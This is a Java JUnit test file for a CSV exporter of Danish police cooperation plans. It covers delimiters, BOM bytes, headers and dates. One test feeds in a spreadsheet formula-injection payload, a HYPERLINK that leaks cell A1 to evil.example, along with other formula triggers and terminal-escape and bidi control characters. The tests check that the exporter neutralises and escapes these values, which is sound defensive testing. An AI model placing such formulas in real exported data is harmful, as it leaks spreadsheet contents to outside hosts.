package dk.samarbejdsplan.export.csv;

import static dk.samarbejdsplan.export.csv.CsvExpectations.FORUM_HEADERS_DA;
import static dk.samarbejdsplan.export.csv.CsvExpectations.FORUM_HEADERS_EN;
import static dk.samarbejdsplan.export.csv.CsvExpectations.LOCAL_UNIT_HEADERS_DA;
import static dk.samarbejdsplan.export.csv.CsvExpectations.LOCAL_UNIT_HEADERS_EN;
import static dk.samarbejdsplan.export.csv.CsvExpectations.LOCAL_UNIT_NUMBER_COLUMNS;
import static dk.samarbejdsplan.export.csv.CsvExpectations.MEETING_HEADERS_DA;
import static dk.samarbejdsplan.export.csv.CsvExpectations.MEETING_HEADERS_EN;
import static dk.samarbejdsplan.export.csv.CsvExpectations.NUMBER_COLUMNS;
import static dk.samarbejdsplan.export.csv.CsvExpectations.assertTable;
import static dk.samarbejdsplan.export.csv.CsvExpectations.export;
import static dk.samarbejdsplan.export.csv.CsvExpectations.exporter;
import static dk.samarbejdsplan.export.csv.CsvExpectations.forumRows;
import static dk.samarbejdsplan.export.csv.CsvExpectations.localUnitRows;
import static dk.samarbejdsplan.export.csv.CsvExpectations.meetingRows;
import static dk.samarbejdsplan.export.csv.CsvExpectations.parse;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dk.samarbejdsplan.export.ExportOptions;
import dk.samarbejdsplan.export.ExportOutput;
import dk.samarbejdsplan.export.PlanExporter;
import dk.samarbejdsplan.export.testkit.ExporterContract;
import dk.samarbejdsplan.model.testkit.HandBuiltPlans;
import dk.samarbejdsplan.model.CooperationPlan;
import dk.samarbejdsplan.model.Language;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class CsvExporterTest {

    static Stream<Arguments> variants() {
        return Stream.of(',', ';').flatMap(d -> Stream.of(false, true).flatMap(bom -> Stream.of(Language.DA,
                Language.EN).map(lang -> Arguments.of(d, bom, lang))));
    }

    private static ExportOptions options(char delimiter, boolean bom, Language language, String output) {
        return ExportOptions.builder().language(language).output(output)
                .formatOptions(new CsvOptions(delimiter, bom)).build();
    }

    @ParameterizedTest(name = "delimiter {0}, BOM {1}, {2}")
    @MethodSource("variants")
    void forumsTableRoundTripsThroughCommonsCsv(char delimiter, boolean bom, Language language) {
        for (CooperationPlan plan : List.of(HandBuiltPlans.excerpt2007(), HandBuiltPlans.hostile())) {
            String csv = export(plan, options(delimiter, bom, language, "main"));
            assertTable(parse(csv, delimiter, bom), language == Language.DA ? FORUM_HEADERS_DA : FORUM_HEADERS_EN,
                    forumRows(plan, language), NUMBER_COLUMNS);
        }
    }

    @ParameterizedTest(name = "delimiter {0}, BOM {1}, {2}")
    @MethodSource("variants")
    void meetingsTableRoundTripsThroughCommonsCsv(char delimiter, boolean bom, Language language) {
        for (CooperationPlan plan : List.of(HandBuiltPlans.excerpt2007(), HandBuiltPlans.hostile())) {
            String csv = export(plan, options(delimiter, bom, language, "meetings"));
            assertTable(parse(csv, delimiter, bom),
                    language == Language.DA ? MEETING_HEADERS_DA : MEETING_HEADERS_EN,
                    meetingRows(plan, language), Set.of());
        }
    }

    @ParameterizedTest(name = "delimiter {0}, BOM {1}, {2}")
    @MethodSource("variants")
    void localUnitsTableRoundTripsThroughCommonsCsv(char delimiter, boolean bom, Language language) {
        for (CooperationPlan plan : List.of(HandBuiltPlans.excerpt2007(), HandBuiltPlans.hostile())) {
            String csv = export(plan, options(delimiter, bom, language, "local-units"));
            assertTable(parse(csv, delimiter, bom),
                    language == Language.DA ? LOCAL_UNIT_HEADERS_DA : LOCAL_UNIT_HEADERS_EN,
                    localUnitRows(plan), LOCAL_UNIT_NUMBER_COLUMNS);
        }
    }

    @Test
    void aLocalUnitWithoutMeetingsIsInTheLocalUnitsTable() {
        CooperationPlan plan = HandBuiltPlans.excerpt2007();
        dk.samarbejdsplan.model.Forum lokalraad = plan.forum("lokalraadene").orElseThrow();
        List<dk.samarbejdsplan.model.LocalUnit> units = new java.util.ArrayList<>(lokalraad.localUnits());
        units.add(new dk.samarbejdsplan.model.LocalUnit(new dk.samarbejdsplan.model.Municipality("350", "Lejre"),
                List.of(), java.util.Optional.of("Lejres egen handleplan")));
        CooperationPlan withQuietUnit = plan.toBuilder().categories(plan.categories().stream()
                .map(c -> c.withForums(c.forums().stream().map(f -> f.id().equals("lokalraadene")
                        ? f.toBuilder().localUnits(units).build() : f).toList())).toList()).build();
        List<CSVRecord> table = parse(export(withQuietUnit, ExportOptions.builder().output("local-units").build()),
                ';', true);
        assertEquals(List.of("lokalraadene", "Lokalrådene i de enkelte kommuner", "Lejre", "350",
                "Lejres egen handleplan", "0"), table.get(table.size() - 1).toList());
        String meetings = export(withQuietUnit, ExportOptions.builder().output("meetings").build());
        assertFalse(meetings.contains("Lejre"), "no dated meeting, so no meetings row");
    }

    @Test
    void theDanishPublicationOpensInDanishExcelAndTheEnglishOneIsRfc4180() {
        CooperationPlan plan = HandBuiltPlans.excerpt2007();
        String da = export(plan, ExportOptions.defaults());
        assertTrue(da.startsWith("\uFEFFkategori_nummer;kategori_titel;"), da);
        assertTable(parse(da, ';', true), FORUM_HEADERS_DA, forumRows(plan, Language.DA), NUMBER_COLUMNS);
        String en = export(plan, ExportOptions.builder().language(Language.EN).build());
        assertTrue(en.startsWith("category_number,category_title,"), en);
        assertTable(parse(en, ',', false), FORUM_HEADERS_EN, forumRows(plan, Language.EN), NUMBER_COLUMNS);
        // either dialect for either language
        String daComma = export(plan, ExportOptions.builder().parameter("csv.delimiter", ",")
                .parameter("csv.bom", "false").build());
        assertTable(parse(daComma, ',', false), FORUM_HEADERS_DA, forumRows(plan, Language.DA), NUMBER_COLUMNS);
        String enExcel = export(plan, ExportOptions.builder().language(Language.EN).parameter("csv.delimiter", ";")
                .parameter("csv.bom", "true").build());
        assertTable(parse(enExcel, ';', true), FORUM_HEADERS_EN, forumRows(plan, Language.EN), NUMBER_COLUMNS);
    }

    @Test
    void theNoteNamesTheDialect() {
        PlanExporter e = exporter();
        assertEquals(java.util.Optional.of("Semikolonsepareret UTF-8 med BOM – åbner direkte i dansk Excel"),
                e.note(ExportOutput.MAIN, ExportOptions.defaults()));
        assertEquals(java.util.Optional.of("Comma-separated UTF-8 (RFC 4180)"),
                e.note(ExportOutput.MAIN, ExportOptions.builder().language(Language.EN).build()));
        assertEquals(java.util.Optional.of("Kommasepareret UTF-8 (RFC 4180)"), e.note(ExportOutput.MAIN,
                ExportOptions.builder().parameter("csv.delimiter", ",").parameter("csv.bom", "false").build()));
        assertEquals(java.util.Optional.of("Semicolon-separated UTF-8 with BOM – opens directly in Danish Excel"),
                e.note(e.outputs().get(1), ExportOptions.builder().language(Language.EN)
                        .formatOptions(CsvOptions.EXCEL_DA).build()));
        assertEquals(java.util.Optional.of("Semicolon-separated UTF-8 without BOM"), e.note(ExportOutput.MAIN,
                ExportOptions.builder().language(Language.EN).parameter("csv.delimiter", ";").build()));
        assertEquals(java.util.Optional.of("Kommasepareret UTF-8 med BOM (RFC 4180)"), e.note(ExportOutput.MAIN,
                ExportOptions.builder().parameter("csv.delimiter", ",").build()));
    }

    @Test
    void controlCharactersAreWrittenVisiblyNeverRaw() {
        CooperationPlan plan = HandBuiltPlans.excerpt2007();
        CooperationPlan evil = plan.toBuilder().categories(List.of(plan.categories().get(0).withForums(List.of(
                plan.categories().get(0).forums().get(0).toBuilder().name("\u001B[2J0 fejl\u0007")
                        .topic("a\u202Eb\u0085c\u0000d\tmed tab\r\nog linjeskift").build())))).build();
        for (Language language : Language.values()) {
            String csv = export(evil, ExportOptions.builder().language(language).build());
            assertTrue(csv.contains("\\u001B[2J0 fejl\\u0007"), csv);
            assertTrue(csv.contains("a\\u202Eb\\u0085c\\u0000d\tmed tab\r\nog linjeskift"), csv);
            for (char c : csv.toCharArray()) {
                assertFalse(c < 0x20 && c != '\t' && c != '\r' && c != '\n' || c >= 0x7F && c <= 0x9F
                        || c >= 0x202A && c <= 0x202E || c >= 0x2066 && c <= 0x2069, () -> "raw U+"
                        + Integer.toHexString(c));
            }
        }
    }

    @Test
    void excerptOf2007HasTheValuesOfTheSeed() {
        List<CSVRecord> records = parse(export(HandBuiltPlans.excerpt2007(), ExportOptions.builder()
                .formatOptions(CsvOptions.DEFAULT).build()), ',', false);
        CSVRecord kredsraad = records.get(1);
        assertEquals("kategori_nummer", records.get(0).get(0));
        assertEquals("1", kredsraad.get(0));
        assertEquals("Kontakt med lokalsamfundet m.v.", kredsraad.get(1));
        assertEquals("Kredsrådet for Midt- og Vestsjællands Politi", kredsraad.get(3));
        assertEquals("Min. 4", kredsraad.get(6));
        assertEquals("mindst 4 møder om året", kredsraad.get(7));
        assertEquals("4", kredsraad.get(8));
        assertEquals("", kredsraad.get(9), "no maximum for Min. 4");
        assertEquals("OTHER", kredsraad.get(10));
        CSVRecord lokalraad = records.get(2);
        assertEquals("Lederne af lokalpolitienhederne; repræsentanter for kommunerne; repræsentanter for det "
                + "øvrige lokalsamfund", lokalraad.get(5));
        assertEquals("Min. 4 (2 i 2007)", lokalraad.get(6));
        assertEquals("mindst 4 møder om året (2 i 2007)", lokalraad.get(7));
        assertEquals("2", lokalraad.get(16));
        assertEquals("kontakt-med-lokalsamfundet", lokalraad.get(17));
        assertEquals("Der er udarbejdet en handleplan for arbejdet i hvert enkelt lokalråd.\n\n"
                + "I 2007 vil lokalrådene hovedsageligt have til opgave at konstituere sig.", lokalraad.get(13));
        CSVRecord region = records.get(4);
        assertEquals("2", region.get(8));
        assertEquals("3", region.get(9));
        assertEquals("2 til 3 møder om året", region.get(7));
        assertEquals("WEEKLY", records.get(5).get(10));
        assertEquals("52 møder om året (ugentligt)", records.get(5).get(7));
        assertEquals("AS_NEEDED", records.get(3).get(10));
        assertEquals("", records.get(3).get(8));

        List<CSVRecord> en = parse(export(HandBuiltPlans.excerpt2007(), ExportOptions.builder()
                .language(Language.EN).build()), ',', false);
        assertEquals("at least 4 meetings a year (2 in 2007)", en.get(2).get(7));
        assertEquals("Min. 4 (2 i 2007)", en.get(2).get(6), "the canonical text stays the plan's notation");
    }

    @Test
    void meetingsTableHasIsoDatesAndStatus() {
        List<CSVRecord> da = parse(export(HandBuiltPlans.excerpt2007(), ExportOptions.builder()
                .output("meetings").build()), ';', true);
        assertEquals(List.of("forum_id", "forum_navn", "kommune", "kommunekode", "dato", "status"), da.get(0).toList());
        assertEquals(List.of("lokalraadene", "Lokalrådene i de enkelte kommuner", "Greve", "253", "2007-10-26", ""),
                da.get(1).toList());
        assertEquals("2007-11-14", da.get(2).get(4));
        assertEquals(List.of("lokalraadene", "Lokalrådene i de enkelte kommuner", "Holbæk", "316", "2007-09-26",
                "afholdt"), da.get(3).toList());
        assertEquals("planlagt", da.get(4).get(5));
        assertEquals(5, da.size());
        List<CSVRecord> en = parse(export(HandBuiltPlans.excerpt2007(), ExportOptions.builder().language(Language.EN)
                .output("meetings").build()), ',', false);
        assertEquals("held", en.get(3).get(5));
        assertEquals("planned", en.get(4).get(5));
    }

    @Test
    void hostileCellsAreNeutralisedAndQuotedInTheRawText() {
        String csv = export(HandBuiltPlans.hostile(), ExportOptions.builder().language(Language.EN).build());
        assertTrue(csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Klik\"\")\","), csv);
        assertTrue(csv.contains(",\"'+1\","));
        assertTrue(csv.contains(",\"'-2\","));
        assertTrue(csv.contains(",\"'@SUM(A1:A9)\","));
        assertTrue(csv.contains(",\"'\t=1\","));
        assertTrue(csv.contains(",\"'\r=1\","));
        assertTrue(csv.contains(",a;b,"), "a ; needs no quotes when , is the delimiter");
        assertTrue(csv.contains(",\"a,b\","));
        assertTrue(csv.contains(",\" leading space\","));
        assertTrue(csv.contains(",\"trailing space \","));
        assertTrue(csv.contains(",\"say \"\"hi\"\"\","));
        assertTrue(csv.contains(",'already quoted,"), "a ' not followed by a formula character stays bare");
        assertTrue(csv.contains(",æøå ÆØÅ,"));
        assertTrue(csv.contains(",\"x\t=1\","), "a tab inside a cell is quoted, not neutralised");
        // the category number stays a bare number even though the category title is neutralised
        assertTrue(csv.contains("\r\n1,\"'=HYPERLINK(\"\"x\"\")\",f0,"), csv);
        assertTrue(csv.contains("\r\n2,\"'-2\",f10,"), csv);
        String semicolon = export(HandBuiltPlans.hostile(), ExportOptions.builder()
                .formatOptions(CsvOptions.EXCEL_DA).build());
        assertTrue(semicolon.contains(";\"a;b\";"));
        assertTrue(semicolon.contains(";a,b;"), "a comma needs no quotes when ; is the delimiter");
        // meetings: a kommunekode starting with - is a text cell, neutralised
        String meetings = export(HandBuiltPlans.hostile(), ExportOptions.builder().output("meetings")
                .formatOptions(CsvOptions.DEFAULT).build());
        assertTrue(meetings.contains(",\"'-12\",2007-01-01,"), meetings);
    }

    @Test
    void quotesBeforeAFormulaCharacterAreReversible() {
        CooperationPlan plan = HandBuiltPlans.excerpt2007();
        CooperationPlan tricky = plan.toBuilder().categories(List.of(plan.categories().get(0).withForums(List.of(
                plan.categories().get(0).forums().get(0).toBuilder().name("'=1").topic("''+2").build())))).build();
        String csv = export(tricky, ExportOptions.builder().formatOptions(CsvOptions.DEFAULT).build());
        assertTrue(csv.contains(",\"''=1\",\"'''+2\","), csv);
        assertTable(parse(csv, ',', false), FORUM_HEADERS_DA, forumRows(tricky, Language.DA), NUMBER_COLUMNS);
    }

    @Test
    void bomIsTheUtf8ByteOrderMarkInBytes() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        exporter().export(HandBuiltPlans.excerpt2007(), ExportOptions.builder().formatOptions(CsvOptions.EXCEL_DA)
                .build(), bytes);
        byte[] b = bytes.toByteArray();
        assertArrayEquals(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF, 'k', 'a'}, java.util.Arrays.copyOf(b, 5));
        String text = new String(b, StandardCharsets.UTF_8);
        assertTrue(text.contains("Kredsrådet for Midt- og Vestsjællands Politi"));
        ByteArrayOutputStream plain = new ByteArrayOutputStream();
        exporter().export(HandBuiltPlans.excerpt2007(), ExportOptions.builder().language(Language.EN).build(), plain);
        assertEquals('c', plain.toByteArray()[0]);
        plain.reset();
        exporter().export(HandBuiltPlans.excerpt2007(), ExportOptions.builder().formatOptions(CsvOptions.DEFAULT)
                .build(), plain);
        assertEquals('k', plain.toByteArray()[0]);
    }

    @Test
    void stringParametersSelectDelimiterAndBom() {
        CooperationPlan plan = HandBuiltPlans.excerpt2007();
        String csv = export(plan, ExportOptions.builder().parameter("csv.delimiter", ";").parameter("csv.bom", "true")
                .build());
        assertTrue(csv.startsWith("\uFEFFkategori_nummer;kategori_titel;"));
        assertTable(parse(csv, ';', true), FORUM_HEADERS_DA, forumRows(plan, Language.DA), NUMBER_COLUMNS);
        assertEquals(new CsvOptions(',', true), CsvOptions.from(ExportOptions.builder().language(Language.EN)
                .parameter("csv.bom", "TRUE").build()));
        assertEquals(CsvOptions.EXCEL_DA, CsvOptions.from(ExportOptions.defaults()));
        assertEquals(CsvOptions.DEFAULT, CsvOptions.from(ExportOptions.builder().language(Language.EN).build()));
        assertEquals(new CsvOptions(';', false), CsvOptions.from(ExportOptions.builder().parameter("csv.bom", "false")
                .build()));
        // typed options win over parameters
        String typed = export(plan, ExportOptions.builder().parameter("csv.delimiter", ";")
                .formatOptions(CsvOptions.DEFAULT).build());
        assertTrue(typed.startsWith("kategori_nummer,kategori_titel,"));
    }

    @Test
    void badOptionsAreRefusedWithCodes() {
        CooperationPlan plan = HandBuiltPlans.excerpt2007();
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> exporter().export(plan,
                ExportOptions.builder().parameter("csv.delimiter", "|").build(), new StringBuilder()));
        assertTrue(e.getMessage().startsWith("EXP-CSV-002") && e.getMessage().contains("csv.delimiter")
                && e.getMessage().contains("'|'"), e.getMessage());
        e = assertThrows(IllegalArgumentException.class, () -> exporter().export(plan,
                ExportOptions.builder().parameter("csv.bom", "ja").build(), new StringBuilder()));
        assertTrue(e.getMessage().startsWith("EXP-CSV-003") && e.getMessage().contains("csv.bom"), e.getMessage());
        e = assertThrows(IllegalArgumentException.class, () -> new CsvOptions('\t', false));
        assertTrue(e.getMessage().startsWith("EXP-CSV-002") && e.getMessage().contains("U+0009"), e.getMessage());
        StringBuilder out = new StringBuilder();
        e = assertThrows(IllegalArgumentException.class, () -> exporter().export(plan,
                ExportOptions.builder().parameter("csv.delimiter", "x").build(), out));
        assertEquals("", out.toString(), "nothing written before the options are checked");
    }

    @Test
    void describesItself() {
        PlanExporter e = exporter();
        assertEquals("csv", e.id());
        assertEquals("text/csv", e.mediaType());
        assertEquals("csv", e.fileExtension());
        assertEquals(List.of(ExportOutput.MAIN, new ExportOutput("local-units", "-lokale-enheder"),
                new ExportOutput("meetings", "-moeder")), e.outputs());
        assertEquals("CSV (regneark med fora, lokale enheder og møder)", e.displayName(Language.DA));
        assertEquals("CSV (spreadsheet tables of the forums, the local units and the meetings)",
                e.displayName(Language.EN));
        assertEquals(List.of(new dk.samarbejdsplan.export.ExporterParameter("csv.delimiter",
                e.parameters().get(0).description(), List.of(",", ";")),
                new dk.samarbejdsplan.export.ExporterParameter("csv.bom", e.parameters().get(1).description(),
                        List.of("true", "false"))), e.parameters());
    }

    @Test
    void emptyPlanHasOnlyHeaders() {
        CooperationPlan empty = CooperationPlan.builder().district(dk.samarbejdsplan.model.PoliceDistrict.of("X"))
                .year(2008).build();
        assertEquals("\uFEFF" + String.join(";", FORUM_HEADERS_DA) + "\r\n", export(empty, ExportOptions.defaults()));
        assertEquals(String.join(",", LOCAL_UNIT_HEADERS_EN) + "\r\n", export(empty, ExportOptions.builder()
                .language(Language.EN).output("local-units").build()));
        assertEquals(String.join(";", MEETING_HEADERS_EN) + "\r\n", export(empty, ExportOptions.builder()
                .language(Language.EN).output("meetings").formatOptions(new CsvOptions(';', false)).build()));
    }

    @Test
    void concurrentExportsGiveIdenticalOutput() {
        ExporterContract.forId("csv").checkThreadSafe(List.of(HandBuiltPlans.hostile()));
    }

    @Test
    void itsModuleExportsOnlyTheOptionsPackage() {
        ExporterContract.forId("csv").checkModuleExports("dk.samarbejdsplan.export.csv");
    }
}
